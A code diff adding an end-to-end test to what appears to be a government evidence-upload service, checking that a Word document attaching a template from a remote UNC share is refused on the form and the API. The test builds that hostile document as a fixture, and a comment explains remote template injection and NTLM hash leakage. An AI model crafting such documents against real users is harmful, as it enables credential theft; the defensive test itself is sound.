@@ -1,5 +1,11 @@
 import { createHash } from 'node:crypto';
-import { HTML, pdfFile } from './support/evidence-files.js';
+import {
+  docxWithSettings,
+  HTML,
+  pdfFile,
+  relationship,
+  relationshipsPart,
+} from './support/evidence-files.js';
 import { evidenceStreamId } from '../libs/returns/src/index.js';
 import { attachEvidenceForTest, removeEvidenceForTest } from './support/evidence.js';
 import { multipartStream, streamUpload } from './support/multipart.js';
@@ -260,6 +266,53 @@ describe('evidence on the pages (e2e, real PostgreSQL, Redis and SMTP)', () => {
     expect(answer).toContain('govuk-error-summary');
     expect(answer).toMatch(/id="file-error"/);
     expect((await call('GET', `/returns/${s2}/evidence`, as.coordinator)).body.files).toHaveLength(1);
+  });
+
+  // A review (2026-12-06): a Word document whose settings attach a template from another server (remote template
+  // injection; on \\host\share, the reviewer's NTLM hash) was taken as evidence. Refused, naming the rule.
+  it('refuses a Word document that fetches a template from outside itself, on the file input and by the API', async () => {
+    const remote = docxWithSettings(
+      relationshipsPart(relationship('attachedTemplate', '\\\\198.51.100.7\\share\\normal.dotm')),
+    );
+    const { html, response } = await page(`/agency/returns/${s3}/evidence`, as.lead('sevenoaks-csp'));
+    const token = /name="_csrf" value="([^"]+)"/.exec(html)![1];
+    const csrfCookie = response.headers.get('set-cookie')!.split(';')[0];
+    const form = (csrf: boolean) => {
+      const body = new FormData();
+      if (csrf) body.append('_csrf', token);
+      body.append('file', new Blob([new Uint8Array(remote)]), 'survey.docx');
+      return body;
+    };
+    const before = (await evidenceEvents(s3)).length;
+    const posted = await fetch(`${product.baseUrl}/agency/returns/${s3}/evidence`, {
+      method: 'POST',
+      headers: {
+        ...as.lead('sevenoaks-csp'),
+        cookie: `${as.lead('sevenoaks-csp').cookie}; ${csrfCookie}`,
+        accept: 'text/html',
+      },
+      body: form(true),
+    });
+    const answer = await posted.text();
+    expect(posted.status).toBe(422);
+    expect(answer).toContain('govuk-error-summary');
+    expect(answer).toMatch(
+      /href="#file">The document fetches a template from outside itself when it is opened/,
+    );
+    expect(answer).toMatch(/id="file-error"[^>]*>[\s\S]*?The document fetches a template/);
+
+    const api = await fetch(`${product.baseUrl}/returns/${s3}/evidence`, {
+      method: 'POST',
+      headers: as.lead('sevenoaks-csp'),
+      body: form(false),
+    });
+    expect(api.status).toBe(422);
+    expect(api.headers.get('content-type')).toContain('application/problem+json');
+    expect(await api.json()).toMatchObject({
+      code: 'file-has-external-content',
+      errors: [{ field: 'file', rule: 'file-has-external-content' }],
+    });
+    expect((await evidenceEvents(s3)).length).toBe(before);
   });
 
   it('keeps a name with quotes as the lead saw it, escaped on the page and in the download, and refuses a line break', async () => {
